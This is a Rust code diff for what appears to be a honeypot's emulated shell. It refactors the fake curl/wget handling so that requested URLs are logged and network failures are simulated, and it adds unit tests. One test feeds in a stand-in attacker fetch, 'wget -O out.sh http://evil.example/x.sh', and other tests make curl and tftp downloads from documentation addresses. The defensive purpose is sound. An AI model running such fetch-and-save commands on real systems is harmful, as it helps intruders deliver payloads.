@@ -153,63 +153,90 @@ fn netstat(sh: &Shell, name: &str) -> String {
     }
 }
 
-fn download(sh: &mut Shell, c: &Cmd, tool: &str, out: &mut Output) -> Res {
+/// curl options whose value is the next word (so it is not taken for a URL).
+const CURL_VALUE_OPTIONS: &[&str] = &[
+    "-o",
+    "-H",
+    "-d",
+    "-A",
+    "-u",
+    "-X",
+    "-e",
+    "-x",
+    "-b",
+    "-c",
+    "-m",
+    "-F",
+    "-T",
+    "-w",
+    "-K",
+    "--output",
+    "--header",
+    "--data",
+    "--user-agent",
+    "--user",
+    "--request",
+    "--connect-timeout",
+    "--max-time",
+    "--data-binary",
+];
+
+/// The same for wget and the other tools.
+const WGET_VALUE_OPTIONS: &[&str] = &[
+    "-O",
+    "-o",
+    "-P",
+    "-U",
+    "-e",
+    "-t",
+    "-T",
+    "-a",
+    "--output-document",
+    "--user-agent",
+    "--header",
+    "--tries",
+    "--timeout",
+];
+
+/// At most this many URLs of one command are recorded.
+const MAX_URLS: usize = 16;
+
+fn download(sh: &Shell, c: &Cmd, tool: &str, out: &mut Output) -> Res {
+    let urls = urls(c, tool);
+    if urls.is_empty() {
+        return match tool {
+            "curl" => Res::err("curl: try 'curl --help' or 'curl --manual' for more information\n".into(), 2),
+            _ => Res::err(format!("{tool}: missing URL\nUsage: {tool} [OPTION]... [URL]...\n\nTry `{tool} --help' for more options.\n"), 1),
+        };
+    }
+    let mut res = Res::default();
+    for u in urls.into_iter().take(MAX_URLS) {
+        out.events.push(ShellEvent::Download {
+            url: u.clone(),
+            tool: tool.to_owned(),
+        });
+        let (text, code) = failure(sh, tool, &u);
+        res.err.push_str(&text);
+        res.code = code;
+    }
+    res
+}
+
+/// The words that look like URLs (bounded), option values skipped.
+fn urls(c: &Cmd, tool: &str) -> Vec<String> {
+    let value_options = if tool == "curl" {
+        CURL_VALUE_OPTIONS
+    } else {
+        WGET_VALUE_OPTIONS
+    };
     let mut urls = Vec::new();
-    let mut ofile: Option<String> = None;
     let mut skip = false;
-    for (i, a) in c.argv.iter().enumerate().skip(1) {
+    for a in c.argv.iter().skip(1) {
         if skip {
             skip = false;
             continue;
         }
-        let takes_arg: &[&str] = if tool == "curl" {
-            &[
-                "-o",
-                "-H",
-                "-d",
-                "-A",
-                "-u",
-                "-X",
-                "-e",
-                "-x",
-                "-b",
-                "-c",
-                "-m",
-                "-F",
-                "-T",
-                "-w",
-                "-K",
-                "--output",
-                "--header",
-                "--data",
-                "--user-agent",
-                "--user",
-                "--request",
-                "--connect-timeout",
-                "--max-time",
-                "--data-binary",
-            ]
-        } else {
-            &[
-                "-O",
-                "-o",
-                "-P",
-                "-U",
-                "-e",
-                "-t",
-                "-T",
-                "-a",
-                "--output-document",
-                "--user-agent",
-                "--header",
-                "--tries",
-                "--timeout",
-            ]
-        };
-        if takes_arg.contains(&a.as_str()) {
-            if matches!(a.as_str(), "-O" | "-o" | "--output" | "--output-document") {
-                ofile = c.argv.get(i + 1).cloned();
-            }
+        if value_options.contains(&a.as_str()) {
             skip = true;
             continue;
         }
@@ -220,61 +247,126 @@ fn download(sh: &mut Shell, c: &Cmd, tool: &str, out: &mut Output) -> Res {
             urls.push(a.clone());
         }
     }
-    if urls.is_empty() {
-        return match tool {
-            "curl" => Res::err("curl: try 'curl --help' or 'curl --manual' for more information\n".into(), 2),
-            _ => Res::err(format!("{tool}: missing URL\nUsage: {tool} [OPTION]... [URL]...\n\nTry `{tool} --help' for more options.\n"), 1),
-        };
-    }
-    let mut res = Res::default();
-    for u in urls.into_iter().take(16) {
-        out.events.push(ShellEvent::Download {
-            url: u.clone(),
-            tool: tool.to_owned(),
-        });
-        let (scheme, rest) = match u.split_once("://") {
-            Some((s, r)) => (s.to_ascii_lowercase(), r.to_owned()),
-            None => ("http".to_owned(), u.clone()),
-        };
-        let hostport = rest.split('/').next().unwrap_or("");
-        let host = hostport.rsplit('@').next().unwrap_or(hostport);
-        let (h, port) = match host.rsplit_once(':') {
-            Some((h, p)) if p.parse::<u16>().is_ok() => (h.to_owned(), p.to_owned()),
-            _ => (
-                host.to_owned(),
-                if scheme == "https" {
-                    "443".into()
-                } else {
-                    "80".into()
-                },
-            ),
-        };
-        let is_ip = h.parse::<std::net::Ipv4Addr>().is_ok();
-        if tool == "curl" {
-            if is_ip {
-                res.err.push_str(&format!("curl: (7) Failed to connect to {h} port {port} after {} ms: Couldn't connect to server\n", 3000 + sh.vfs.host().salt % 100));
-                res.code = 7;
-            } else {
-                res.err
-                    .push_str(&format!("curl: (6) Could not resolve host: {h}\n"));
-                res.code = 6;
-            }
-        } else {
-            let when = sh.now().format("%Y-%m-%d %H:%M:%S");
-            let shown = if u.contains("://") {
-                u.clone()
-            } else {
-                format!("http://{u}")
-            };
-            if is_ip {
-                res.err.push_str(&format!("--{when}--  {shown}\nConnecting to {h}:{port}... failed: Connection timed out.\nRetrying.\n\n"));
-                res.code = 4;
-            } else {
-                res.err.push_str(&format!("--{when}--  {shown}\nResolving {h} ({h})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘{h}’\n"));
-                res.code = 4;
-            }
+    urls
+}
+
+/// What `tool` prints, and its exit status, when the URL's host cannot be
+/// reached (an address: connection fails) or resolved (a name).
+fn failure(sh: &Shell, tool: &str, u: &str) -> (String, i32) {
+    let (scheme, rest) = match u.split_once("://") {
+        Some((s, r)) => (s.to_ascii_lowercase(), r),
+        None => ("http".to_owned(), u),
+    };
+    let hostport = rest.split('/').next().unwrap_or("");
+    let host = hostport.rsplit('@').next().unwrap_or(hostport);
+    let (h, port) = match host.rsplit_once(':') {
+        Some((h, p)) if p.parse::<u16>().is_ok() => (h, p),
+        _ => (host, if scheme == "https" { "443" } else { "80" }),
+    };
+    let is_ip = h.parse::<std::net::Ipv4Addr>().is_ok();
+    if tool == "curl" {
+        if is_ip {
+            let ms = 3000 + sh.vfs.host().salt % 100;
+            return (format!("curl: (7) Failed to connect to {h} port {port} after {ms} ms: Couldn't connect to server\n"), 7);
         }
+        return (format!("curl: (6) Could not resolve host: {h}\n"), 6);
     }
-    let _ = ofile;
-    res
+    let when = sh.now().format("%Y-%m-%d %H:%M:%S");
+    let shown = if u.contains("://") {
+        u.to_owned()
+    } else {
+        format!("http://{u}")
+    };
+    if is_ip {
+        (format!("--{when}--  {shown}\nConnecting to {h}:{port}... failed: Connection timed out.\nRetrying.\n\n"), 4)
+    } else {
+        (format!("--{when}--  {shown}\nResolving {h} ({h})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘{h}’\n"), 4)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::commands::testing::{root, run};
+    use crate::shell::ShellEvent;
+
+    #[test]
+    fn ifconfig_shows_the_deckys_address_and_mac() {
+        let mut sh = root();
+        let mac = sh.vfs().host().mac.clone();
+        let out = run(&mut sh, "ifconfig");
+        assert!(out.starts_with("eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n"));
+        assert!(out.contains("inet 10.0.0.5  netmask 255.255.255.0  broadcast 10.0.0.255\n"));
+        assert!(out.contains(&format!("ether {mac}  txqueuelen 1000  (Ethernet)\n")));
+        assert!(out.contains("\nlo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n"));
+    }
+
+    #[test]
+    fn ip_shows_addresses_routes_and_links() {
+        let mut sh = root();
+        let mac = sh.vfs().host().mac.clone();
+        assert!(run(&mut sh, "ip a")
+            .contains("    inet 10.0.0.5/24 brd 10.0.0.255 scope global eth0\n"));
+        assert_eq!(
+            run(&mut sh, "ip r"),
+            "default via 10.0.0.1 dev eth0 onlink \n10.0.0.0/24 dev eth0 proto kernel scope link src 10.0.0.5 \n"
+        );
+        assert!(run(&mut sh, "ip link")
+            .contains(&format!("    link/ether {mac} brd ff:ff:ff:ff:ff:ff\n")));
+        let out = sh.execute("ip foo");
+        assert_eq!(out.stdout, "Object \"foo\" is unknown, try \"ip help\".\n");
+        assert_eq!(out.exit_code, 255);
+        assert!(run(&mut sh, "ip").starts_with("Usage: ip [ OPTIONS ] OBJECT"));
+    }
+
+    #[test]
+    fn netstat_and_ss_show_sshd_and_the_attacker() {
+        let mut sh = root();
+        let ns = run(&mut sh, "netstat -antp");
+        assert!(
+            ns.contains(
+                "tcp        0     64 10.0.0.5:22             203.0.113.9:52814       ESTABLISHED\n"
+            ),
+            "{ns}"
+        );
+        let ss = run(&mut sh, "ss -tlnp");
+        assert!(ss.starts_with("Netid State  Recv-Q Send-Q"));
+        assert!(
+            ss.contains("tcp   ESTAB  0      0        10.0.0.5:22   203.0.113.9:52814"),
+            "{ss}"
+        );
+    }
+
+    #[test]
+    fn downloads_record_urls_and_fail_like_the_tool() {
+        let mut sh = root();
+        let out = sh.execute("wget -O out.sh http://evil.example/x.sh");
+        let urls: Vec<(&str, &str)> = out
+            .events
+            .iter()
+            .filter_map(|e| match e {
+                ShellEvent::Download { url, tool } => Some((url.as_str(), tool.as_str())),
+                _ => None,
+            })
+            .collect();
+        // The -O value is not a URL.
+        assert_eq!(urls, vec![("http://evil.example/x.sh", "wget")]);
+        assert_eq!(
+            out.stdout,
+            "--2026-11-23 10:00:00--  http://evil.example/x.sh\nResolving evil.example (evil.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘evil.example’\n"
+        );
+        assert_eq!(out.exit_code, 4);
+        let out = sh.execute("curl -s https://198.51.100.7/y");
+        assert!(out
+            .stdout
+            .starts_with("curl: (7) Failed to connect to 198.51.100.7 port 443 after "));
+        assert_eq!(out.exit_code, 7);
+        let out = sh.execute("curl -H 'Host: x' a.example:8080/p");
+        assert_eq!(out.stdout, "curl: (6) Could not resolve host: a.example\n");
+        assert_eq!(out.exit_code, 6);
+        assert!(run(&mut sh, "tftp -g 198.51.100.9:69/x")
+            .contains("Connecting to 198.51.100.9:69... failed"));
+        assert_eq!(sh.execute("curl").exit_code, 2);
+        assert!(run(&mut sh, "ftpget").starts_with("ftpget: missing URL\n"));
+        assert!(run(&mut sh, "fetch").starts_with("fetch: missing URL\n"));
+    }
 }
